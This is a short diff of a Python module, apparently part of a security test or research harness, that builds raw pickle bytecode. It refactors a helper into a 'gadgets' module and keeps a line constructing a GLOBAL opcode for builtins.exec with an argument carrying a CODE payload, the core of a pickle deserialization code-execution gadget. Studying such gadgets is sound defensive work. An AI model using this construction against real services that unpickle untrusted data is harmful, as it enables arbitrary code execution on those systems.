@@ -8,15 +8,9 @@ Since: 0.1
 from __future__ import annotations
 
 import pickle
-import struct
 
-from gadgets import CODE, carried
+from gadgets import CODE, carried, short
 from harness import MARKER, expose
-
-
-def short(text: str) -> bytes:
-    return pickle.SHORT_BINUNICODE + struct.pack("B", len(text)) + text.encode()
-
 
 EXEC = pickle.GLOBAL + b"builtins\nexec\n"
 ARGUMENT = b"(" + short(CODE) + pickle.TUPLE
